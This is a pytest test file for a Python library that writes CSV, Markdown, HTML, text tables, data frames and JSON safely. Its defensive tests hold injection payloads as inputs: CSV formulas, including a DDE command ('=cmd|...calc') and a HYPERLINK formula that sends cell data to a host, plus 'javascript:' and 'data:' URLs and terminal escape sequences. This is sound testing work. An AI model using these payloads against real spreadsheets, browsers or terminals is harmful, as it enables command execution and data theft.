import csv as reader
import datetime
import html.parser
import io
import json as reference
import os
import stat
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cqcoop import formats
from cqcoop.errors import CqcoopError, InvalidValue, MissingExtra, UnknownField
from cqcoop.formats import cells, csv, files, frames, json, markdown, text
from cqcoop.formats import html as html_format
from cqcoop.formats.cells import Cell, Row
from cqcoop.formats.html import Text

DAY = datetime.date(2023, 9, 7)
ANY_CELL = st.none() | st.text() | st.integers() | st.floats() | st.booleans() | st.dates()
ANY_TABLE = st.lists(st.fixed_dictionaries({"name": ANY_CELL, "place": ANY_CELL}))
ANY_LETTERS = st.text(st.characters())  # lone surrogates as well
EVERY_DUMPS = [pytest.param(module.dumps, id=module.__name__) for module in (csv, markdown, html_format, text)]


# The package


def test_formats_are_imported_when_first_asked_for() -> None:
    code = "import sys\nfrom cqcoop import formats\nprint('cqcoop.formats.csv' in sys.modules, formats.csv.__name__)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True)
    assert done.stdout.split() == ["False", "cqcoop.formats.csv"]


def test_an_unknown_format_is_an_error() -> None:
    with pytest.raises(AttributeError, match=r"module 'cqcoop\.formats' has no attribute 'xml'"):
        _ = formats.xml


# Cells


def test_values_are_in_the_order_of_the_columns_and_leave_out_the_rest() -> None:
    assert list(cells.values(["b", "a"], [{"a": 1, "b": 2, "c": 3}])) == [(2, 1)]


@pytest.mark.parametrize("dumps", EVERY_DUMPS)
def test_a_missing_column_is_an_error_that_names_row_and_nearest(dumps: Callable[..., str]) -> None:
    with pytest.raises(UnknownField, match="row 2 has no column 'signed'; did you mean 'sigend'"):
        dumps(["signed"], [{"signed": 1}, {"sigend": 2}])


def test_a_missing_column_without_a_near_one_lists_the_columns() -> None:
    with pytest.raises(UnknownField, match="row 1 has no column 'zzz'; its columns are name, place"):
        list(cells.values(["zzz"], [{"name": 1, "place": 2}]))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        pytest.param(None, "", id="nothing"),
        pytest.param(False, "false", id="truth-value"),
        pytest.param(0, "0", id="whole-number"),
        pytest.param(2.5, "2.5", id="number"),
        pytest.param(DAY, "2023-09-07", id="date"),
        pytest.param(" a ", " a ", id="text"),
    ],
)
def test_shown(cell: Cell, expected: str) -> None:
    assert cells.shown(cell) == expected


@pytest.mark.parametrize(
    ("given_text", "expected"),
    [
        pytest.param("\x1b]0;title\x07", "␛]0;title␇", id="escape-sequence"),
        pytest.param("\x9b31m", "\\x9b31m", id="one-character-escape"),
        pytest.param("a\x7fb\x00", "a␡b␀", id="delete-and-nul"),
        pytest.param("a\tb\r\nc\rd\u2028e\x85f\vg", "a b\nc\nd\ne\nf\ng", id="line-ends"),
        pytest.param("abc\u202edef\u2066", "abc\\u202edef\\u2066", id="reordering"),
        pytest.param("a\ufeff\u200b\xad", "a\\ufeff\\u200b\\xad", id="never-seen"),
        pytest.param("\ud800\U000e0041", "\\ud800\\U000e0041", id="surrogate-and-tag"),
        pytest.param("👨\u200d👩 می\u200cخواهم", "👨\u200d👩 می\u200cخواهم", id="joiners-stay"),
        pytest.param("重庆 é e\u0301", "重庆 é e\u0301", id="plain-stays"),
    ],
)
def test_neutral(given_text: str, expected: str) -> None:
    assert cells.neutral(given_text) == expected


@given(ANY_LETTERS)
def test_neutral_leaves_no_control_character_and_nothing_to_do(value: str) -> None:
    once = cells.neutral(value)
    assert not [letter for letter in once if unicodedata.category(letter) in ("Cc", "Cs") and letter != "\n"]
    assert cells.neutral(once) == once


@pytest.mark.parametrize(
    ("column", "expected"),
    [
        pytest.param([1, None, 2.5], True, id="numbers"),
        pytest.param([None], False, id="nothing"),
        pytest.param([1, "2"], False, id="mixed"),
        pytest.param([True], False, id="truth-value"),
    ],
)
def test_are_numbers(column: list[Cell], expected: bool) -> None:
    assert cells.are_numbers(column) is expected


# CSV


def read_csv(content: str) -> list[list[str]]:
    return list(reader.reader(io.StringIO(content, newline=""), strict=True))


def test_csv_follows_rfc_4180() -> None:
    rows: list[Row] = [{"a": 'say "x", y', "b": "one\r\ntwo"}, {"a": None, "b": DAY}]
    assert csv.dumps(["a", "b"], rows) == 'a,b\r\n"say ""x"", y","one\r\ntwo"\r\n,2023-09-07\r\n'


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\nx",
        "  =1",
        "\xa0\u3000=1",
        "\ufeff\u200b=1",
        "\x00=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "﹦1",
        '=HYPERLINK("https://example.org/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_csv_defuses_formulas_in_cells_and_headings(formula: str) -> None:
    assert read_csv(csv.dumps([formula], [{formula: formula}])) == [[f"'{formula}"], [f"'{formula}"]]


@pytest.mark.parametrize("harmless", ["a=b", "x@example.org", "3-4", "", "   ", "'quoted", "重庆", "1+1"])
def test_csv_leaves_other_texts_alone(harmless: str) -> None:
    assert read_csv(csv.dumps(["name", "n"], [{"name": harmless, "n": 1}]))[1] == [harmless, "1"]


@pytest.mark.parametrize("number", [-5, -2.5, -1e-9])
def test_csv_keeps_negative_numbers(number: float) -> None:
    assert csv.dumps(["n"], [{"n": number}]) == f"n\r\n{number}\r\n"


@given(ANY_TABLE)
def test_csv_reads_back_to_the_same_cells(rows: list[Row]) -> None:
    back = read_csv(csv.dumps(["name", "place"], rows))[1:]
    for row, cells_back in zip(rows, back, strict=True):
        for cell, cell_back in zip((row["name"], row["place"]), cells_back, strict=True):
            plain = cells.shown(cell)
            if isinstance(cell, str) and cell.strip().startswith(("=", "+", "-", "@")):
                assert cell_back == f"'{plain}"
            else:
                assert cell_back == plain or (isinstance(cell, str) and cell_back == f"'{plain}")


def test_csv_files_begin_with_a_byte_order_mark_and_keep_line_ends(tmp_path: Path) -> None:
    csv.dump(["name"], [{"name": "重庆\nx"}], tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes() == b'\xef\xbb\xbfname\r\n"\xe9\x87\x8d\xe5\xba\x86\nx"\r\n'
    assert list(pd.read_csv(tmp_path / "a.csv")) == ["name"]


# Markdown


def test_markdown_tables() -> None:
    rows: list[Row] = [{"my_name": "A|B\n<b>", "n": 1}, {"my_name": None, "n": -2.5}, {"my_name": DAY, "n": None}]
    assert markdown.dumps(["my_name", "n"], rows).splitlines() == [
        "| my\\_name | n |",
        "| --- | ---: |",
        "| A\\|B<br>&lt;b&gt; | 1 |",
        "|  | -2.5 |",
        "| 2023-09-07 |  |",
    ]


def test_markdown_without_rows_has_heading_and_rule() -> None:
    assert markdown.dumps(["a", "b"], []) == "| a | b |\n| --- | --- |"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("*a* _b_ ~c~ `d` $e$", r"\*a\* \_b\_ \~c\~ \`d\` \$e\$", id="emphasis"),
        pytest.param("[a](b) ![c](d)", r"\[a\](b) !\[c\](d)", id="links"),
        pytest.param("a\\|b", r"a\\\|b", id="backslash-and-pipe"),
        pytest.param("<script>", "&lt;script&gt;", id="html"),
        pytest.param("&lt; R&D &#60;", "&amp;lt; R&D &amp;#60;", id="entities"),
        pytest.param("# a", "\\# a", id="heading"),
        pytest.param("\n  - a", "\\- a", id="list"),
        pytest.param("12. a", "12\\. a", id="numbered-list"),
        pytest.param("2023 a - b", "2023 a - b", id="plain"),
        pytest.param("\na\r\n# b\n\n", "a # b", id="line-ends"),
        pytest.param("\x1b[0m", "␛\\[0m", id="escape-sequence"),
        pytest.param("https://a.b/c_d www.x.y", r"https\://a.b/c\_d www\.x.y", id="addresses"),
        pytest.param("", "", id="empty"),
    ],
)
def test_markdown_escape(value: str, expected: str) -> None:
    assert markdown.escape(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("https://a.b/c_d?e=1|2", "<https://a.b/c_d?e=1%7C2>", id="address"),
        pytest.param("javascript:alert(1)", "javascript:alert(1)", id="script"),
        pytest.param("https://a.b/>x", r"https\://a.b/&gt;x", id="breaks-out"),
        pytest.param("see https://a.b/", r"see https\://a.b/", id="within-text"),
    ],
)
def test_markdown_links_only_cells_that_are_addresses(value: str, expected: str) -> None:
    assert markdown.dumps(["u"], [{"u": value}]).splitlines()[2] == f"| {expected} |"


class Rendered(html.parser.HTMLParser):
    """Collects the tags and the text of each cell."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


@given(ANY_LETTERS)
def test_markdown_shows_just_the_text(value: str) -> None:
    renderer = pytest.importorskip("markdown_it").MarkdownIt("gfm-like", {"linkify": False, "html": True})
    rendered = Rendered(renderer.render(f"x {markdown.escape(value)} x"))
    assert rendered.tags == ["p"]
    assert rendered.text.split() == f"x {cells.neutral(value)} x".split()


@given(st.text("*_`[]()<>|~#-+=12.) \n\\&;:!ax"))
def test_markdown_shows_just_the_text_at_the_start_of_a_line(value: str) -> None:
    renderer = pytest.importorskip("markdown_it").MarkdownIt("gfm-like", {"linkify": False, "html": True})
    rendered = Rendered(renderer.render(markdown.escape(value)))
    assert set(rendered.tags) <= {"p"}
    assert rendered.text.split() == value.split()


@given(st.lists(st.fixed_dictionaries({"a": st.text("|\\`<>\n*ab"), "b": st.text("|\\`<>\n*ab")}), min_size=1))
def test_markdown_tables_keep_their_shape(rows: list[Row]) -> None:
    renderer = pytest.importorskip("markdown_it").MarkdownIt("gfm-like", {"linkify": False, "html": True})
    tags = Rendered(renderer.render(markdown.dumps(["a", "b"], rows))).tags
    assert (tags.count("tr"), tags.count("td")) == (len(rows) + 1, 2 * len(rows))
    assert set(tags) <= {"table", "thead", "tbody", "tr", "th", "td", "br"}


# HTML


def test_html_escapes_quotes_and_control_characters() -> None:
    assert html_format.escape('<a href="\'">&\x1b\x00') == "&lt;a href=&quot;&#39;&quot;&gt;&amp;␛␀"


@given(ANY_LETTERS)
def test_html_shows_just_the_text(value: str) -> None:
    escaped = html_format.escape(value)
    assert not set(escaped) & set("<>\"'")
    assert Rendered(f"<p title='{escaped}'>{escaped}</p>").text == cells.neutral(value)


@given(ANY_TABLE, st.text(), st.text())
def test_html_has_no_tags_from_data(rows: list[Row], caption: str, column: str) -> None:
    rows = [{column: row["name"], "place": row["place"]} for row in rows]
    page = html_format.page(
        caption, html_format.dumps([column, "place"], rows, caption) + html_format.definition([(caption, column)])
    )
    plain = html_format.page(
        "",
        html_format.dumps(["a", "b"], [{"a": None, "b": None}] * len(rows), "") + html_format.definition([("a", "b")]),
    )
    extra = Rendered(page).tags
    for tag in Rendered(plain).tags:
        if tag not in ("dl", "dt", "dd"):
            extra.remove(tag)
    assert set(extra) <= {"br", "time", "a", "dl", "dt", "dd"}


def test_html_tables_are_accessible() -> None:
    table = html_format.dumps(["id", "n"], [{"id": "a\nb", "n": 3}, {"id": DAY, "n": None}], caption='The "best"')
    assert table.splitlines()[:3] == [
        '<div class="scroll" role="region" aria-label="The &quot;best&quot;" tabindex="0">',
        "<table>",
        "<caption>The &quot;best&quot;</caption>",
    ]
    assert '<tr><th scope="col">id</th><th scope="col" class="number">n</th></tr>' in table
    assert '<tr><th scope="row">a<br>b</th><td class="number">3</td></tr>' in table
    assert '<tr><th scope="row"><time>2023-09-07</time></th><td class="number"></td></tr>' in table


def test_html_tables_may_be_empty_and_need_no_caption() -> None:
    table = html_format.dumps(["id"], [])
    assert table.startswith('<div class="scroll" tabindex="0">\n<table>\n<thead>\n<tr><th scope="col">id</th></tr>')
    assert Rendered(table).tags == ["div", "table", "thead", "tr", "th", "tbody"]


@pytest.mark.parametrize("url", ["https://example.org/?a=1&b=\"'", "HTTP://example.org"])
def test_html_links_web_addresses(url: str) -> None:
    rendered = Rendered(html_format.link(url))
    assert rendered.attributes == [("href", url), ("rel", "noopener noreferrer")]
    assert rendered.text == url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " https://example.org",
        "data:text/html,<script>",
        "https://",
        "https:///x",
        "//example.org",
        "java\nscript:x",
        "https://a b",
        "https://a\njavascript:x",
    ],
)
def test_html_links_nothing_else(url: str) -> None:
    assert "a" not in Rendered(html_format.link(url, "Label")).tags
    assert "a" not in Rendered(html_format.dumps(["u"], [{"u": url}])).tags


def test_html_cards_leave_out_what_says_nothing() -> None:
    card = html_format.definition(
        [("A", None), ("B", ""), ("C", []), ("D", [None, "x", 0]), ("E", Text("")), ("F", (True, DAY))]
    )
    assert card.splitlines() == [
        "<dl>",
        "<dt>D</dt><dd>x</dd><dd>0</dd>",
        "<dt>F</dt><dd>true</dd><dd><time>2023-09-07</time></dd>",
        "</dl>",
    ]


def test_html_texts_carry_language_and_link() -> None:
    card = html_format.definition(
        [("N", [Text("重庆", "zh-Hans"), Text("a", '"x', "https://b.c"), Text("<", url="x:y")])]
    )
    assert card.splitlines()[1] == (
        '<dt>N</dt><dd><span lang="zh-Hans">重庆</span></dd>'
        '<dd><span lang="&quot;x"><a href="https://b.c" rel="noopener noreferrer">a</a></span></dd>'
        "<dd>&lt;</dd>"
    )


def test_html_pages_stand_alone() -> None:
    page = html_format.page("A & <b>", "<p>{body}</p>", language="zh-Hans")
    assert page.startswith('<!DOCTYPE html>\n<html lang="zh-Hans">')
    assert "<title>A &amp; &lt;b&gt;</title>" in page
    assert "<h1>A &amp; &lt;b&gt;</h1>\n<p>{body}</p>\n</main>" in page
    assert "default-src 'none'" in page
    assert "prefers-color-scheme: dark" in page
    assert "@media print" in page
    assert not {"script", "link", "img"} & set(Rendered(page).tags)


def test_html_in_a_notebook_styles_only_itself() -> None:
    style = html_format.notebook("<p>x</p>").partition("<style>")[2].partition("</style>")[0]
    selectors = [part for rule in style.split("}") if "{" in rule for part in rule.partition("{")[0].split(",")]
    assert selectors
    assert all(selector.strip().startswith(".cqcoop") for selector in selectors)


# Text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("", 0, id="empty"),
        pytest.param("重庆", 4, id="wide"),
        pytest.param("ＡＢ", 4, id="full-width"),
        pytest.param("ｱ", 1, id="half-width"),
        pytest.param("e\u0301é", 2, id="combining"),
        pytest.param("a\u200db", 2, id="joiner"),
        pytest.param("\u1112\u1161\u11ab", 2, id="jamo"),
        pytest.param("…–", 2, id="ambiguous"),
    ],
)
def test_width(value: str, expected: int) -> None:
    assert text.width_of(value) == expected


def test_text_tables_line_up() -> None:
    rows: list[Row] = [{"name": "重庆", "n": 1, "on": DAY}, {"name": "Cafe\u0301\nx", "n": -20, "on": None}]
    assert text.dumps(["name", "n", "on"], rows, width=40).split("\n") == [
        "name      n  on",
        "------  ---  ----------",
        "重庆      1  2023-09-07",
        "Cafe\u0301 x  -20",
    ]


def test_text_tables_without_rows() -> None:
    assert text.dumps(["a", "bc"], [], width=9) == "a  bc\n-  --"


def test_text_tables_cut_the_widest_columns_first() -> None:
    rows: list[Row] = [{"a": "x" * 30, "b": "重" * 20, "c": "short"}]
    table = text.dumps(["a", "b", "c"], rows, width=30).split("\n")
    assert table[2] == "xxxxxxxxx…  重重重重…   short"
    assert max(map(text.width_of, table)) <= 30


def test_text_tables_name_the_columns_they_leave_out() -> None:
    rows: list[Row] = [{"a": "x" * 30, "b": "y" * 30, "c": "z" * 30}]
    assert text.dumps(["a", "b", "c"], rows, width=18) == (
        "a         b\n--------  --------\nxxxxxxx…  yyyyyyy…\n\nNot shown: c"
    )


def test_text_tables_of_one_column_fit_any_width() -> None:
    assert text.dumps(["abc", "d"], [{"abc": "x", "d": 1}], width=1).split("\n")[:3] == ["…", "-", "x"]


@given(ANY_TABLE, st.integers(3, 60))
def test_text_tables_keep_to_the_width_and_send_no_controls(rows: list[Row], width: int) -> None:
    table, _, _ = text.dumps(["name", "place"], rows, width).partition("\n\nNot")
    lines = table.split("\n")
    assert len(lines) == len(rows) + 2
    assert max(map(text.width_of, lines)) <= width
    assert not [letter for letter in table if unicodedata.category(letter) in ("Cc", "Cs") and letter != "\n"]


def test_text_tables_take_huge_cells() -> None:
    rows: list[Row] = [{"a": "\x1b[2J重" * 100_000}]
    assert text.dumps(["a"], rows, width=20).split("\n")[2] == "␛[2J重␛[2J重␛[2J重␛…"


@pytest.mark.parametrize(
    ("environment", "expected"),
    [pytest.param({}, 100, id="no-terminal"), pytest.param({"COLUMNS": "37"}, 37, id="said")],
)
def test_text_width_is_that_of_the_terminal(environment: dict[str, str], expected: int) -> None:
    code = "from cqcoop.formats.text import dumps; print(dumps(['a'], [{'a': 'x' * 999}]))"
    clean = {key: value for key, value in os.environ.items() if key != "COLUMNS"}
    done = subprocess.run(
        [sys.executable, "-c", code], env={**clean, **environment, "PYTHONUTF8": "1"}, capture_output=True, check=True
    )
    assert len(done.stdout.decode().split()[1]) == expected


def test_text_width_without_a_number_is_asked_of_the_system(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "12")
    assert text.wrap("one two three four") == "one two\nthree four"


@pytest.mark.parametrize("width", [0, -1])
def test_text_width_is_at_least_one(width: int) -> None:
    with pytest.raises(InvalidValue, match="width: expected at least 1"):
        text.dumps(["a"], [], width)


@pytest.mark.parametrize(
    ("value", "width", "expected"),
    [
        pytest.param("one two three", 7, ["one two", "three"], id="words"),
        pytest.param("abcdefgh ij", 3, ["abc", "def", "gh", "ij"], id="long-word"),
        pytest.param("重庆两江新区", 5, ["重庆", "两江", "新区"], id="chinese"),
        pytest.param("重庆，两江。", 4, ["重", "庆，", "两", "江。"], id="closing-punctuation"),
        pytest.param("重庆（两江）", 6, ["重庆", "（两", "江）"], id="opening-punctuation"),
        pytest.param("与WTPF签署", 6, ["与WTPF", "签署"], id="mixed"),
        pytest.param("两\u0301江", 2, ["两\u0301", "江"], id="combining"),
        pytest.param("aa 两\u0301abc", 5, ["aa", "两\u0301abc"], id="combining-before-latin"),
        pytest.param("a\n\nb\r\nc", 9, ["a", "", "b", "c"], id="own-lines"),
        pytest.param("a   b", 9, ["a   b"], id="spaces"),
        pytest.param("10\xa0km away", 6, ["10\xa0km", "away"], id="no-break-space"),
        pytest.param("\x1b[1m", 9, ["␛[1m"], id="escape-sequence"),
        pytest.param("重", 1, ["重"], id="no-room"),
        pytest.param("", 9, [""], id="empty"),
    ],
)
def test_wrap(value: str, width: int, expected: list[str]) -> None:
    assert text.wrap(value, width).split("\n") == expected


def test_wrap_indents() -> None:
    assert text.wrap("aa bb\n\ncc", 5, indent="  ").split("\n") == ["  aa", "  bb", "", "  cc"]
    assert text.wrap("aa bb", 4, indent="  ", first="- ").split("\n") == ["- aa", "  bb"]


@pytest.mark.parametrize("indents", [{"indent": "    "}, {"first": "重庆"}])
def test_wrap_needs_room_beside_the_indent(indents: dict[str, str]) -> None:
    with pytest.raises(InvalidValue, match="wrap: expected a width greater than that of the indent, found 4"):
        text.wrap("a", 4, **indents)


@given(st.text(), st.integers(2, 40))
def test_wrap_keeps_to_the_width_and_loses_no_letter(value: str, width: int) -> None:
    lines = text.wrap(value, width).split("\n")
    assert max(map(text.width_of, lines)) <= width
    assert "".join("".join(lines).split()) == "".join(cells.neutral(value).split())


def test_text_is_cheap_to_import() -> None:
    code = "import sys, cqcoop.formats.text; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True).stdout.split()
    assert not {"attrs", "attr", "shutil", "json", "csv", "pandas", "inspect"} & set(loaded)


# Frames

MIXED: list[Row] = [
    {"on": DAY, "n": 3, "x": 1, "yes": True, "name": "重庆", "mixed": 1, "huge": 2**63, "none": None},
    {"on": None, "n": None, "x": 2.5, "yes": None, "name": None, "mixed": True, "huge": -1, "none": None},
]
COLUMNS = tuple(MIXED[0])


def test_pandas_columns_have_the_fitting_types() -> None:
    frame = frames.to_pandas(COLUMNS, iter(MIXED))
    assert {column: str(dtype) for column, dtype in frame.dtypes.items()} == {
        "on": "datetime64[s]",
        "n": "Int64",
        "x": "float64",
        "yes": "boolean",
        "name": "string",
        "mixed": "string",
        "huge": "string",
        "none": "string",
    }
    assert frame.astype(object).where(frame.notna(), None).to_dict("records") == [
        {**MIXED[0], "on": pd.Timestamp(DAY), "mixed": "1", "huge": str(2**63)},
        {**MIXED[1], "mixed": "true", "huge": "-1"},
    ]


def test_polars_columns_have_the_fitting_types() -> None:
    frame = frames.to_polars(COLUMNS, iter(MIXED))
    assert dict(frame.schema) == {
        "on": pl.Date(),
        "n": pl.Int64(),
        "x": pl.Float64(),
        "yes": pl.Boolean(),
        "name": pl.String(),
        "mixed": pl.String(),
        "huge": pl.String(),
        "none": pl.String(),
    }
    assert frame.to_dicts() == [
        {**MIXED[0], "mixed": "1", "huge": str(2**63)},
        {**MIXED[1], "mixed": "true", "huge": "-1"},
    ]


@pytest.mark.parametrize(
    "rows", [pytest.param([], id="no-rows"), pytest.param([{"a": None, "b": None}], id="no-values")]
)
def test_frames_take_the_types_given_where_there_are_no_values(rows: list[Row]) -> None:
    types = {"a": datetime.date, "b": int}
    assert list(map(str, frames.to_pandas(["a", "b"], rows, types).dtypes)) == ["datetime64[s]", "Int64"]
    assert list(frames.to_polars(["a", "b"], rows, types).schema.values()) == [pl.Date(), pl.Int64()]


def test_values_win_over_the_types_given() -> None:
    assert str(frames.to_pandas(["a"], [{"a": "x"}], {"a": int})["a"].dtype) == "string"


@pytest.mark.parametrize("day", [datetime.date.min, datetime.date.max])
def test_frames_hold_every_date(day: datetime.date) -> None:
    assert frames.to_pandas(["on"], [{"on": day}])["on"].astype(str).to_list() == [day.isoformat()]
    assert frames.to_polars(["on"], [{"on": day}])["on"].to_list() == [day]


@pytest.mark.parametrize(
    ("package", "make"),
    [pytest.param("pandas", frames.to_pandas, id="pandas"), pytest.param("polars", frames.to_polars, id="polars")],
)
def test_frames_say_which_extra_is_missing(
    package: str, make: Callable[..., object], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, package, None)
    with pytest.raises(MissingExtra, match=rf'pip install "cqcoop\[{package}\]"') as caught:
        make(["a"], [])
    assert caught.value.name == package
    assert isinstance(caught.value, ImportError)


def test_frames_import_neither_package_by_themselves() -> None:
    code = "import sys, cqcoop.formats.frames; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True).stdout.split()
    assert not {"pandas", "polars", "numpy"} & set(loaded)


# JSON


def test_json_keeps_scripts_and_order() -> None:
    value = {"b": "重庆", "a": [1, None, True, DAY]}
    assert json.dumps(value) == ('{\n  "b": "重庆",\n  "a": [\n    1,\n    null,\n    true,\n    "2023-09-07"\n  ]\n}')


@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
def test_json_refuses_numbers_that_are_not_finite(number: float) -> None:
    with pytest.raises(InvalidValue, match="expected plain data: Out of range"):
        json.dumps([number])


@pytest.mark.parametrize(
    ("value", "message"),
    [
        pytest.param({1, 2}, "expected plain data, found a set", id="set"),
        pytest.param({(1, 2): 3}, "expected plain data: keys must be", id="key"),
    ],
)
def test_json_refuses_what_is_not_plain(value: object, message: str) -> None:
    with pytest.raises(InvalidValue, match=message):
        json.dumps(value)


def test_json_refuses_what_holds_itself() -> None:
    loop: list[object] = []
    loop.append(loop)
    with pytest.raises(InvalidValue, match="Circular"):
        json.dumps(loop)


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(), st.lists))
def test_json_reads_back(value: object) -> None:
    assert reference.loads(json.dumps(value)) == value


def test_json_files_end_with_a_line_end(tmp_path: Path) -> None:
    json.dump(["重庆"], tmp_path / "a.json")
    assert (tmp_path / "a.json").read_bytes() == '[\n  "重庆"\n]\n'.encode()


def test_a_refused_value_leaves_the_file_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    path.write_text("old")
    with pytest.raises(InvalidValue):
        json.dump([float("nan")], path)
    with pytest.raises(
        InvalidValue, match=r"a\.json: expected text that UTF-8 can hold, found .*'\\ud800' at position 5"
    ):
        json.dump(["\ud800"], path)
    assert path.read_text() == "old"
    assert [path.name for path in tmp_path.iterdir()] == ["a.json"]


# Files


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_new_files_have_the_usual_permissions(tmp_path: Path) -> None:
    (tmp_path / "usual").touch()
    files.write_bytes(tmp_path / "new", b"x")
    assert mode(tmp_path / "new") == mode(tmp_path / "usual")


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such permissions")
def test_replaced_files_keep_their_permissions(tmp_path: Path) -> None:
    path = tmp_path / "old"
    path.touch()
    path.chmod(0o640)
    files.write_text(path, "new\r\n\n")
    assert (mode(path), path.read_bytes()) == (0o640, b"new\r\n\n")


@pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege on Windows")
def test_links_stay_and_their_file_is_replaced(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "sub" / "file")
    files.write_bytes(tmp_path / "link", b"1")
    files.write_bytes(tmp_path / "link", b"2")
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "sub" / "file").read_bytes() == b"2"


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no named pipes in folders")
def test_pipes_are_written_to_and_not_replaced(tmp_path: Path) -> None:
    # A pipe of our own: were this ever to fail on a device of the system, the device would be gone.
    os.mkfifo(tmp_path / "pipe")
    reading = os.open(tmp_path / "pipe", os.O_RDONLY | os.O_NONBLOCK)
    files.write_bytes(tmp_path / "pipe", b"x")
    received = os.read(reading, 9)
    os.close(reading)
    assert (received, (tmp_path / "pipe").is_fifo()) == (b"x", True)


def test_a_folder_is_no_file(tmp_path: Path) -> None:
    with pytest.raises(OSError):  # noqa: PT011 - which OSError it is depends on the system
        files.write_bytes(tmp_path, b"x")


def test_long_file_names_are_no_hindrance(tmp_path: Path) -> None:
    files.write_bytes(tmp_path / ("x" * 255), b"x")
    assert [path.name for path in tmp_path.iterdir()] == ["x" * 255]


@pytest.mark.parametrize("step", ["fsync", "replace"])
def test_a_failure_leaves_the_old_file_and_nothing_beside_it(
    step: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise OSError("no space left on device")

    files.write_bytes(tmp_path / "a", b"old")
    monkeypatch.setattr(os, step, fail)
    with pytest.raises(OSError, match="no space left"):
        files.write_bytes(tmp_path / "a", b"new")
    assert (tmp_path / "a").read_bytes() == b"old"
    assert [path.name for path in tmp_path.iterdir()] == ["a"]


def test_a_missing_folder_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        files.write_text(tmp_path / "no" / "a", "x")


def test_the_errors_are_those_of_the_package() -> None:
    with pytest.raises(CqcoopError):
        json.dumps(float("nan"))


def test_a_column_that_must_stay_whole_is_cut_last() -> None:
    rows = [{"name": "a" * 60, "id": "an-id-that-somebody-will-copy"}]
    assert "an-id-that-somebody-will-copy" in text.dumps(["name", "id"], rows, width=50, whole=["id"])
    assert "an-id-that-somebody-will-copy" not in text.dumps(["name", "id"], rows, width=50)
    assert all(text.width_of(line) <= 20 for line in text.dumps(["name", "id"], rows, 20, whole=["id"]).splitlines())


@pytest.mark.parametrize("part", ["table th", "table td", "table .number", "dl dt", "dl dd"])
def test_the_rules_of_a_notebook_do_not_win_over_those_of_a_table_in_it(part: str) -> None:
    """A notebook says `.jp-RenderedHTMLCommon td`, and may come later: what it sets too is said with two classes."""
    selectors = [one.strip() for rule in html_format._STYLE.split("}") for one in rule.split("{")[0].split(",")]
    assert f".cqcoop.cqcoop {part}" in selectors
    assert f".cqcoop {part}" not in selectors
